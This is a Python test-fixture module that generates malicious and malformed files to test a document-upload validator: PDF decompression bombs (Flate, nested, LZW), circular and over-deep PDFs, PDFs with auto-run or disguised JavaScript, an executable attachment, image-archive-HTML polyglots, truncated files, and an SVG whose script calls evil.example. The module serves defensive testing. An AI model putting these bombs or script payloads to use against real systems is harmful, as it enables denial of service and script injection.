"""Files that mean harm, and files that went wrong on the way, made here so that none is kept in the repository."""

import struct
import zipfile
import zlib
from functools import cache
from io import BytesIO

from pikepdf import Array, Dictionary, Name, Stream, String

from documents.tests.pictures import blank_pdf, pdf, png, put_packed, written
from sampling.scans import certificate, jpeg, portrait

MEGABYTE = 1024 * 1024
SVG = b"""<?xml version="1.0" encoding="UTF-8"?>
<!-- a seal --><svg xmlns="http://www.w3.org/2000/svg"><script>fetch('https://evil.example')</script></svg>"""
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(500)


@cache
def zeros(megabytes: int) -> bytes:
    """So many megabytes of nothing, packed to a thousandth."""
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(megabytes)) + packer.flush()


def archive() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil")
    return out.getvalue()


# --- PDFs ---------------------------------------------------------------------------------------


def bomb() -> bytes:
    """One stream that unpacks to 300 MB."""
    document = blank_pdf()
    put_packed(document, zeros(300), Name.FlateDecode)
    return written(document)


def bomb_in_a_bomb() -> bytes:
    document = blank_pdf()
    put_packed(document, zlib.compress(zeros(300), 9), Name.FlateDecode, Name.FlateDecode)
    return written(document)


def bomb_of_many_filters() -> bytes:
    document = blank_pdf()
    put_packed(document, zeros(1), *[Name.FlateDecode] * 5)
    return written(document)


def bomb_in_pieces() -> bytes:
    """Streams that each unpack to what one may, and together to 3 GB."""
    document = blank_pdf()
    pieces = []
    for _ in range(50):
        stream = Stream(document, b"")
        stream.write(zeros(60), filter=Name.FlateDecode)
        pieces.append(document.make_indirect(stream))
    document.pages[0].Contents = Array(pieces)
    return written(document)


def bomb_as_table() -> bytes:
    """A stream of objects, in which even the catalog stands, that unpacks to 300 MB."""
    inner = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>"]
    starts = [0, len(inner[0]) + 1, len(inner[0]) + len(inner[1]) + 2]
    head = b"".join(b"%d %d " % (number, start) for number, start in enumerate(starts, 1))
    packer = zlib.compressobj(9)
    packed = packer.compress(head + b"\n".join(inner) + b"\n")
    packed += b"".join(packer.compress(b" " * MEGABYTE) for _ in range(300)) + packer.flush()
    made = b"%PDF-1.7\n"
    objects_at = len(made)
    made += b"4 0 obj\n<</Type/ObjStm/N 3/First %d/Filter/FlateDecode/Length %d>>\n" % (len(head), len(packed))
    made += b"stream\n" + packed + b"\nendstream\nendobj\n"
    table_at = len(made)
    rows = [struct.pack(">BIB", 0, 0, 255), *(struct.pack(">BIB", 2, 4, index) for index in range(3))]
    rows += [struct.pack(">BIB", 1, objects_at, 0), struct.pack(">BIB", 1, table_at, 0)]
    table = b"".join(rows)
    made += b"5 0 obj\n<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>\nstream\n" % len(table)
    return made + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % table_at


def lzw_bomb() -> bytes:
    """2 MB in the oldest way of packing, whose codes each stand for more and more nothing: about 2 GB."""
    document = blank_pdf()
    # Clear the table, then each code twice as it grows, up to 4094 codes, again and again.
    bits, width = [], 9
    for code in [256, 0, *range(258, 4094)]:
        bits.append(format(code, f"0{width}b"))
        width = 9 if code < 510 else 10 if code < 1022 else 11 if code < 2046 else 12
    bits.append(format(256, "012b"))
    round_ = "".join(bits)
    packed = int(round_ * 8, 2).to_bytes(len(round_), "big") * 50
    put_packed(document, packed, Name.LZWDecode)
    return written(document)


def deep() -> bytes:
    document = blank_pdf()
    inner = Array([])
    for _ in range(200):
        inner = Array([inner])
    document.Root.Deep = inner
    return written(document)


def crowded() -> bytes:
    """Three hundred thousand objects."""
    head = b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n2 0 obj\n<</Type/Pages/Kids[3 0 R]/Count 1>>\n"
    head += b"endobj\n3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>\nendobj\n"
    body = b"".join(b"%d 0 obj\n<</A<<>>>>\nendobj\n" % number for number in range(4, 300_000))
    return head + body + b"trailer\n<</Root 1 0 R/Size 300000>>\nstartxref\n0\n%%EOF\n"


def circular_pages() -> bytes:
    document = blank_pdf()
    document.Root.Pages.Kids = Array([document.Root.Pages])
    return written(document)


def many_pages(count: int) -> bytes:
    """One page object, shown again and again; the stated number is a lie."""
    document = blank_pdf()
    document.Root.Pages.Kids = Array([document.Root.Pages.Kids[0]] * count)
    document.Root.Pages.Count = 1
    return written(document)


def with_action(kind: str) -> bytes:
    """A PDF that does something as soon as it is opened."""
    document = blank_pdf()
    action = Dictionary(S=Name(kind))
    if kind == "/JavaScript":
        action.JS = String("app.alert('hello')")
    document.Root.OpenAction = action
    return written(document)


def with_script_in_names() -> bytes:
    """JavaScript in the catalog's name tree, its name written in disguise."""
    document = blank_pdf()
    script = document.make_indirect(Dictionary(S=Name.JavaScript, JS=Stream(document, b"app.alert(1)")))
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script])))
    return written(document).replace(b"/JavaScript", b"/J#61vaScript")


def with_attachment() -> bytes:
    document = blank_pdf()
    document.attachments["invoice.exe"] = b"MZ"
    return written(document)


def with_password(password: str) -> bytes:
    from pikepdf import Encryption

    return written(blank_pdf(), encryption=Encryption(owner="owner", user=password))


# --- Two files in one, and broken ones ----------------------------------------------------------

TWO_IN_ONE = {
    "a PDF behind something else": lambda: b"#!/bin/sh\n" + pdf(),
    "a PDF and an archive": lambda: pdf() + archive(),
    "a JPEG and an archive": lambda: jpeg(certificate()) + archive(),
    "a PNG and a page": lambda: png(certificate()) + b"<HTML><body onload=alert(1)>",
    "a JPEG and a program": lambda: jpeg(certificate()) + b"<script>alert(1)</script>",
    "a JPEG with a page in its comment": lambda: jpeg(certificate(), comment=b"<script>alert(1)</script>"),
    "a JPEG and a PDF": lambda: jpeg(certificate()) + pdf(),
    "a JPEG and a RAR": lambda: jpeg(certificate()) + b"Rar!\x1a\x07\x01\x00" + bytes(50),
}


def truncated_jpeg() -> bytes:
    whole = jpeg(certificate())
    return whole[: len(whole) // 2]


def truncated_png() -> bytes:
    whole = png(certificate())
    return whole[: len(whole) // 2]


def truncated_pdf() -> bytes:
    whole = pdf(3, picture=portrait())
    return whole[: len(whole) // 2]


def png_that_says(width: int, height: int) -> bytes:
    """A PNG of a few bytes that states any size."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zeros(1)) + chunk(b"IEND", b"")
